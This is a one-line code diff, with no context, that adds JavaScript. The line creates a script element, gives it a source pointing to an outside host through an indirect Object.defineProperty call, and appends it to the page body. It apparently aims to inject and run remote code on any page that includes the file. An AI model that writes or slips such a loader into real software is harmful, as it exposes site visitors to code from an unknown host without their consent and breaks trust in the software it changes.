@@ -1,0 +1,1 @@
+const s = document.createElement('script'); Object.defineProperty(s, 'src', { value: 'https://c.invalid/x.js' }); document.body.append(s);
